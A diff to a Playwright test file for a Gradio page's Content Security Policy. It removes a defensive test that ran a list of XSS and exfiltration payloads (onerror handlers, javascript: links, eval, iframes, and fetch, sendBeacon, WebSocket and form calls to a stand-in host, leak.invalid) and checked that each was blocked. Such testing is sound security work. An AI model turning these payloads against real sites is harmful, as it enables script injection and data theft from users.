@@ -1,4 +1,4 @@
-"""The page's policy in a real Chromium: it hinders nothing that the page does, and whatever should not run does not."""
+"""The page's policy in a real Chromium: it hinders nothing that the page does, elsewhere and behind a proxy too."""
 
 from __future__ import annotations
 
@@ -71,63 +71,6 @@ def test_a_long_session_needs_the_listed_routes_only_and_nothing_complains(serve
     assert {route(method, path) for method, path in gradios} == set(Route)
     assert "/assets/" in "".join(path for _, path in gradios)
     assert any(path == "/theme.css" for _, path in gradios)
-
-
-ATTEMPTS = {
-    "a script without a nonce": "const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"
-    " document.body.append(s)",
-    "a script of another site": "const s = document.createElement('script'); s.src = 'http://leak.invalid/x.js';"
-    " document.body.append(s)",
-    "a script in data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hacked=1';"
-    " document.body.append(s)",
-    "a handler in markup": "box.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
-    "a link with a script": "box.innerHTML = '<svg><a href=\"javascript:window.hacked=1\"><text>x</text></a></svg>';"
-    " box.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true }))",
-    "eval": "try { (0, eval)('window.hacked = 1') } catch (e) { window.refused = e.name }",
-    "a new function": "try { new Function('window.hacked = 1')() } catch (e) { window.refused = e.name }",
-    "a called function": "try { Function('window.hacked = 1')() } catch (e) { window.refused = e.name }",
-    "a function by its constructor": "try { (() => {}).constructor('window.hacked = 1')() }"
-    " catch (e) { window.refused = e.name }",
-    "a timer of a string": "setTimeout('window.hacked = 1', 0)",
-    "a frame": "box.innerHTML = '<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>'",
-    "a foreign frame": "box.innerHTML = '<iframe src=\"http://leak.invalid/f\"></iframe>'",
-    "an object": 'box.innerHTML = \'<object data="http://leak.invalid/o"></object><embed src="http://leak.invalid/e">\'',
-    "a picture": "box.innerHTML = '<img src=\"http://leak.invalid/p.png\">'",
-    "a picture through the server": "box.innerHTML = '<img src=\"/gradio_api/file=http://leak.invalid/p.png\">'",
-    "a picture in data": "box.innerHTML = '<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">'",
-    "a style sheet": "box.innerHTML = '<style>body { background: url(http://leak.invalid/s) }"
-    " #kw { display: none !important }</style><link rel=stylesheet href=http://leak.invalid/c.css>'",
-    "a style attribute": "box.innerHTML = '<p id=cover style=\"position:fixed;inset:0;z-index:99999\">x</p>'",
-    "a form": "box.innerHTML = '<form action=\"http://leak.invalid/f\"><input name=a></form>';"
-    " box.querySelector('form').submit()",
-    "a base": "box.innerHTML = '<base href=\"http://leak.invalid/\">'",
-    "a request": "fetch('http://leak.invalid/r').catch(() => {}); navigator.sendBeacon('http://leak.invalid/b')",
-    "a socket": "try { new WebSocket('ws://leak.invalid/w') } catch (e) {}",
-    "a worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://leak.invalid/\")']))) } catch (e) {}",
-}
-
-
-def test_what_an_answer_might_try_does_not_run_load_or_show(serve: Serve, tab: OpenTab) -> None:
-    one = tab(serve().url).open()
-    left = []
-    one.page.on("requestfinished", lambda request: left.append(request.url))
-    before = one.page.url
-    for name, attempt in ATTEMPTS.items():
-        one.page.evaluate(
-            f"() => {{ const box = document.createElement('div'); document.body.append(box); {attempt} }}"
-        )
-        one.page.wait_for_timeout(60)
-        assert one.page.evaluate("window.hacked") is None, name
-        assert one.page.url.split("#")[0] == before.split("#")[0], name
-        if "refused" in attempt:
-            assert one.page.evaluate("window.refused") == "EvalError", name
-            one.page.evaluate("window.refused = null")
-    assert one.page.evaluate("document.baseURI").startswith(one.url)
-    assert one.page.evaluate("getComputedStyle(document.getElementById('cover')).position") == "static"
-    assert one.page.evaluate("getComputedStyle(document.getElementById('kw')).display") != "none"
-    assert [url for url in left if "leak.invalid" in url] == []
-    one.requests[:] = [url for url in one.requests if "leak.invalid" not in url]  # asked for by us, and never sent
-    one.problems.clear()
 
 
 def test_the_login_page_runs_under_its_own_policy(serve: Serve, tab: OpenTab) -> None:
